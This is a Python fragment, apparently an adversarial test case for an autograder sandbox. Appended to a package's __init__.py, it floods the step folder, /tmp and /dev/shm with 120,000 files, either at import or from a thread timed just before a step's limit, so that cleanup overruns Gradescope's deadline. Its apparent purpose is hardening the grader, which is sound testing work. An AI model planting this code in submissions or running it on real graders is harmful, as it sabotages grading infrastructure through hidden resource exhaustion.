
# ---- attack (appended to proj4_code/__init__.py): a file flood, at import or just before a step's limit ---
# 120,000 empty files in the step folder, /tmp and /dev/shm. When the sandbox removed what its user left
# with one process per entry, outside the step's time, this made a grading last 526 s (at import) and
# 1,262 s (just before each step's limit), past Gradescope's 10 minutes (issue 22). _FLOOD_WHEN says per
# step (answers, public tests) when: "import" at once; "late" from a thread that is not a daemon (the
# process waits for it when its work is done) just before the step's time limit, or before the
# grading's deadline leaves the step no more time (counted from the container's first process): the
# student knows the limits from the README (the test passes the shortened ones it grades with).
import os as _flood_os
import sys as _flood_sys
import threading as _flood_threading
import time as _flood_time

_FLOOD_WHEN = __WHEN__  # {"answers": "import" | "late", "public": ...}
_FLOOD_LIMITS = __LIMITS__  # {"answers": seconds, "public": seconds}: each step's time limit
_FLOOD_DEADLINE, _FLOOD_RESERVE = __DEADLINE__, __RESERVE__  # the grading's deadline, and what the runner keeps of it
_FLOOD_FILES = 120_000
_FLOOD_EARLY = 12.0  # seconds before the limit: enough to make the files the watchdog allows (20,000) and more


def _flood_step():
    if _flood_sys.argv and _flood_sys.argv[0].endswith("answers.py"):
        return "answers"
    if _flood_sys.argv and "pytest" in _flood_sys.argv[0]:
        return "public"
    return ""


def _flood_age(pid="self"):
    """Seconds since a process started (its start time in /proc/<pid>/stat against the uptime)."""
    with open(f"/proc/{pid}/stat") as f:
        started = int(f.read().rsplit(")", 1)[1].split()[19]) / _flood_os.sysconf("SC_CLK_TCK")
    with open("/proc/uptime") as f:
        return float(f.read().split()[0]) - started


def _flood():
    tops = []
    for top in (".", "/tmp", "/dev/shm"):
        folder = f"{top}/flood-{_flood_os.getpid()}"
        try:
            _flood_os.makedirs(folder, exist_ok=True)
            tops.append(folder)
        except OSError:
            pass
    made, start = 0, _flood_time.monotonic()
    print(f"ADV flood: {_FLOOD_FILES} files from {_flood_age():.1f} s into the process", flush=True)
    for i in range(_FLOOD_FILES):
        try:
            _flood_os.close(_flood_os.open(f"{tops[i % len(tops)]}/{i}", _flood_os.O_CREAT | _flood_os.O_WRONLY, 0o644))
            made += 1
        except OSError:
            pass
    print(f"ADV flood made {made} files in {_flood_time.monotonic() - start:.1f} s", flush=True)


def _flood_late(limit):
    left = min(limit - _flood_age(), _FLOOD_DEADLINE - _FLOOD_RESERVE - _flood_age(1))
    _flood_time.sleep(max(0.0, left - _FLOOD_EARLY))
    _flood()


_flood_now = _flood_step()
if _flood_now and not _flood_os.path.exists(f"flood-{_flood_now}-once"):
    open(f"flood-{_flood_now}-once", "w").close()
    if _FLOOD_WHEN.get(_flood_now) == "import":
        _flood()
    elif _FLOOD_WHEN.get(_flood_now) == "late":
        _flood_threading.Thread(target=_flood_late, args=(_FLOOD_LIMITS[_flood_now],)).start()
